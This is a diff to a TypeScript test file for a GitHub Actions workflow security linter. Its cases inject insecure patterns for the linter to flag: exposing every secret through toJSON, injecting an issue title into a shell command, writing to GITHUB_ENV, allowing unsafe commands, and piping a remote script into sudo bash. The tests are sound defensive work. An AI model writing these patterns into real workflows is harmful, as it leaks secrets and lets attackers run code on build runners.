@@ -8,6 +8,19 @@ const DISPATCHER = compiled(EXAMPLE, 'factory.yml')
 /** The named secrets of the call. */
 const PASSED = DISPATCHER.slice(DISPATCHER.indexOf('secrets:\n'))
 
+const RECORD = 'record: ${{ steps.run.outputs.record }}\n'
+/** Two lines of the step that sets up, and of the one that runs. */
+const APPLY = '          phase: apply\n'
+const SETUP = scriptLines('setup')
+const RUN = scriptLines('run')
+
+function scriptLines(phase: string): string {
+  return (
+    new RegExp(`        shell: bash\\n        run: .*\\n.*program" ${phase}\\n`).exec(LINE)?.[0] ??
+    'no such step'
+  )
+}
+
 function ids(text: string): string[] {
   return [...new Set(brokenRules(text).map(({ id }) => id))]
 }
@@ -51,26 +64,30 @@ const EDITS: [code: string, from: string, to: string, base?: string][] = [
   ['secrets-whole', '${{ secrets.OPENAI_API_KEY }}', '${{ toJSON(secrets) }}'],
   ['secrets-whole', '${{ secrets.OPENAI_API_KEY }}', "${{ secrets['A'] }}"],
   ['secret-place', 'spec: ${{ inputs.spec }}', 'spec: ${{ secrets.OPENAI_API_KEY }}'],
-  ['secret-place', 'COMMAND_1: npm ci --ignore-scripts', 'COMMAND_1: ${{ secrets.OPENAI_API_KEY }}'],
+  ['secret-place', SETUP, `        env:\n          A: \${{ secrets.A || secrets.B }}\n${SETUP}`],
   [
     'model-key',
     'signing-key: ${{ secrets.JIDOKA_KEY_STYLE_GATE }}',
     'api-key: ${{ secrets.OPENAI_API_KEY }}',
   ],
+  ['command-secret', RECORD, 'signing-key: ${{ secrets.OPENAI_API_KEY }}\n'],
+  ['command-secret', RECORD, 'other: ${{ github.token }}\n'],
   [
     'command-secret',
-    'outcome: ${{ steps.run.outcome }}\n\n',
-    'signing-key: ${{ secrets.OPENAI_API_KEY }}\n\n',
+    "token: ${{ github.run_attempt != '1' && github.token || '' }}",
+    'token: ${{ github.token }}',
   ],
-  ['command-secret', 'outcome: ${{ steps.run.outcome }}\n\n', 'token: ${{ github.token }}\n\n'],
+  ['command-secret', APPLY, `${APPLY}          signing-key: \${{ secrets.A }}\n`],
+  ['command-secret', SETUP, `        env:\n          A: \${{ github.token }}\n${SETUP}`],
+  ['command-secret', RUN, `        env:\n          A: \${{ secrets.A }}\n${RUN}`],
   ['secret-environment', '    environment:\n      name: factory-generate\n      deployment: false\n', ''],
-  ['script-expression', 'run 2 "$COMMAND_2"', 'run 2 "${{ github.event.issue.title }}"'],
+  ['script-expression', 'program" run', 'program" "${{ github.event.issue.title }}"'],
   ['script-expression', 'shell: bash', 'shell: bash ${{ inputs.spec }}'],
   ['script-shell', '        shell: bash\n', ''],
-  ['runner-files', 'npm test', 'echo PATH=x >> "$GITHUB_ENV"'],
-  ['insecure-commands', 'COMMAND_1: npm ci --ignore-scripts', 'ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"'],
-  ['remote-script', 'npm test', 'curl -s https://example.com/i.sh | sudo bash'],
-  ['plain-http', 'npm test', 'curl http://example.com/x'],
+  ['runner-files', 'program" run', 'program" run >> "$GITHUB_ENV"'],
+  ['insecure-commands', SETUP, `        env:\n          ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"\n${SETUP}`],
+  ['remote-script', 'program" run', 'program" | curl -s https://example.com/i.sh | sudo bash'],
+  ['plain-http', 'program" run', 'program" http://example.com/x'],
   ['trigger', 'on:\n  push:', 'on:\n  pull_request_target:\n  push:', DISPATCHER],
   ['trigger', 'on:\n  push:', 'on:\n  issue_comment:\n  push:', DISPATCHER],
   ['trigger', 'on:\n  push:', 'on:\n  workflow_run:\n  push:', DISPATCHER],
